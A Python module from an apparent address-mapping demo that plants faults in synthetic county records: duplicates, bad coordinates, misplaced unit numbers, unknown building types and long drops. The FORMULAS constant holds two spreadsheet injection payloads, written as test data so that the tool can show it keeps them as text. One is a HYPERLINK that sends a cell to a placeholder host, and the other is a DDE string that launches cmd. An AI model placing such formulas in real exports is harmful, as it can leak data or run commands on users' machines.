"""Faults planted in the address tables: every kind of row that real counties publish and nobody wants."""

from __future__ import annotations

from collections.abc import Callable, Iterator, Mapping
from typing import Any

from fibermap.demo.county import COUNTY_LINE, RIVERSIDE
from fibermap.demo.ground import Spot
from fibermap.demo.model import CAPITAL, County, Fault, Street, Structure
from fibermap.demo.records import COUNTY_TABLE, Record, fabric_record, local_record

UNKNOWN_TYPE = "Glamping Dome"
FORMULAS = ('=HYPERLINK("http://files.example.invalid/?"&A1,"map")', "@SUM(1+1)*cmd|' /C calc'!A0")

_SPELLED_OUT = {"N": "North", "S": "South", "1st": "First", "2nd": "Second", "3rd": "Third"}

_MISPLACED: tuple[tuple[str, Callable[[float, float], Spot | None], str], ...] = (
    ("no_position", lambda _lon, _lat: None, "It has no position: class unknown, and it is ingested."),
    ("position_swapped", lambda lon, lat: (lat, lon), "Latitude and longitude are exchanged in this one row."),
    ("position_zero", lambda _lon, _lat: (0.0, 0.0), "Its coordinates are 0, 0, which is nowhere near."),
)


def plant_in_records(
    county: County, records: list[Record], files: Mapping[str, str]
) -> tuple[list[Record], list[Fault]]:
    """Return the rows with those of the faults after them, and what the faults are.

    Parameters
    ----------
    files
        Name of the file of each table.
    """
    homes = _Homes(county, records)
    planted: list[Record] = []
    faults: list[Fault] = []
    for plant in (_duplicate, _far_apart, _positions, _unit_in_street, _types, _formulas):
        for fault, rows in plant(homes):
            faults.append(_as_fault(fault, rows, files))
            planted += [row for row in rows if row.source_id not in homes.known]
    faults += [_as_fault(fault, rows, files) for fault, rows in _drops(county, records)]
    return records + planted, faults


_Planted = tuple[dict[str, Any], list[Record]]


def _as_fault(fault: dict[str, Any], rows: list[Record], files: Mapping[str, str]) -> Fault:
    return Fault(file=files[rows[0].table], source_ids=tuple(row.source_id for row in rows), **fault)


class _Homes:
    """Homes of the first town that the county lists, for faults to be planted beside; each is handed out once."""

    def __init__(self, county: County, records: list[Record]) -> None:
        self.known = {record.source_id: record for record in records}
        districts = {block.block_id: block.district for block in county.blocks}
        self._left = [
            home
            for home in county.structures
            if home.town == CAPITAL
            and home.use.word == "RESIDENTIAL"
            and districts[home.block_id].startswith("JF-")
            and districts[home.block_id] not in (RIVERSIDE, COUNTY_LINE)
            and self._record(home) is not None
        ]
        self._nth = 0

    def _record(self, home: Structure) -> Record | None:
        return self.known.get(f"LARK{home.structure_id:06d}000")

    def take(self, *street_names: str) -> tuple[Structure, Record]:
        """Return the next home, on one of these streets if any are named, and its row."""
        at = next(i for i, home in enumerate(self._left) if not street_names or home.street.name in street_names)
        home = self._left.pop(at)
        return home, self.known[f"LARK{home.structure_id:06d}000"]

    def beside(self, shift_m: float = 4.0, **changes: Any) -> Record:
        """Return a new row on Main Street, a few metres from a home, with a number that nobody has."""
        home, _ = self.take()
        self._nth += 1
        spot = (home.x_m + shift_m, home.y_m)
        return local_record(f"LARKX{self._nth:05d}", CAPITAL, Street("Main", "St"), 9000 + self._nth, spot, **changes)


def _duplicate(homes: _Homes) -> Iterator[_Planted]:
    home, listed = homes.take("1st", "2nd", "3rd")
    street = Street(_SPELLED_OUT[home.street.name], "Street", _SPELLED_OUT[home.street.pre_directional])
    again = local_record("LARKD00001", CAPITAL, street, home.number, (home.x_m + 5.0, home.y_m + 3.0))
    says = f"{home.number} {home.street} and {home.number} {street}, six metres apart, are one address."
    yield {"code": "duplicate_merged", "shown_as": "merge", "says": says}, [listed, _marked(again, "duplicate_merged")]


def _far_apart(homes: _Homes) -> Iterator[_Planted]:
    home, listed = homes.take()
    other, _ = homes.take("Main")
    if abs(other.x_m - home.x_m) + abs(other.y_m - home.y_m) < 60.0:
        other, _ = homes.take("2nd")
    spot = (other.x_m + 4.0, other.y_m)
    again = local_record("LARKD00002", CAPITAL, home.street, home.number, spot)
    says = f"{home.number} {home.street} twice, far apart: two addresses until somebody has looked."
    yield {"code": "far_apart", "shown_as": "review", "says": says}, [listed, _marked(again, "far_apart")]


def _positions(homes: _Homes) -> Iterator[_Planted]:
    for code, misplaced, says in _MISPLACED:
        row = _marked(homes.beside(), code)
        row.written = misplaced(*(row.written or (0.0, 0.0)))
        row.spot = None
        yield {"code": code, "shown_as": "address", "says": says, "expect": {"class": "unknown"}}, [row]


def _unit_in_street(homes: _Homes) -> Iterator[_Planted]:
    row = _marked(homes.beside(St_Name="Main St Apt 4", St_PosTyp=None), "unit_in_street")
    says = "The unit stands in the field of the street name."
    expect = {"unit": "4", "street_name": "MAIN"}
    yield {"code": "unit_in_street", "shown_as": "address", "says": says, "expect": expect}, [row]


def _types(homes: _Homes) -> Iterator[_Planted]:
    domes = [_marked(homes.beside(Place_Type=UNKNOWN_TYPE), "type_unknown") for _ in range(2)]
    says = f"Nobody has said whether one sells to a {UNKNOWN_TYPE!r}; it is asked about, and until then one does not."
    yield {"code": "type_unknown", "shown_as": "finding", "says": says}, domes
    unsold = [row for row in homes.known.values() if row.table == COUNTY_TABLE and not row.serviceable][:3]
    says = "Garages, barns and landfills are known, and not sold to."
    yield {"code": "type_not_sold", "shown_as": "address", "says": says, "expect": {"serviceable": "false"}}, unsold


def _formulas(homes: _Homes) -> Iterator[_Planted]:
    says = "A cell that a spreadsheet would run: kept as text, and never exported so that it runs."
    row = _marked(homes.beside(Notes=FORMULAS[0]), "formula")
    yield {"code": "formula", "shown_as": "record", "says": says}, [row]
    home, _ = homes.take()
    location = _marked(fabric_record("0009000001", CAPITAL, FORMULAS[1], (home.x_m, home.y_m + 4.0)), "formula")
    yield {"code": "formula", "shown_as": "record", "says": says}, [location]


def _drops(county: County, records: list[Record]) -> Iterator[_Planted]:
    """Name the homes across the river from their terminal, and those too far from theirs."""
    local = [record for record in records if record.table == COUNTY_TABLE]
    crossing = [row for row in local if row.fields["St_Name"] == "Far Bank"]
    says = f"The only terminal of {RIVERSIDE} stands across the river."
    yield {"code": "drop_crosses", "shown_as": "flag", "says": says}, crossing
    long = [row for row in local if row.fields["St_Name"] == "County Line" and _is_set_back(row.spot)]
    says = f"Farms of {COUNTY_LINE} stand more than 500 ft behind the road where their terminals are."
    yield {"code": "drop_over_limit", "shown_as": "flag", "says": says}, long


def _is_set_back(spot: Spot | None) -> bool:
    return spot is not None and abs(spot[0]) > 180.0


def _marked(row: Record, fault: str) -> Record:
    row.fault = fault
    return row
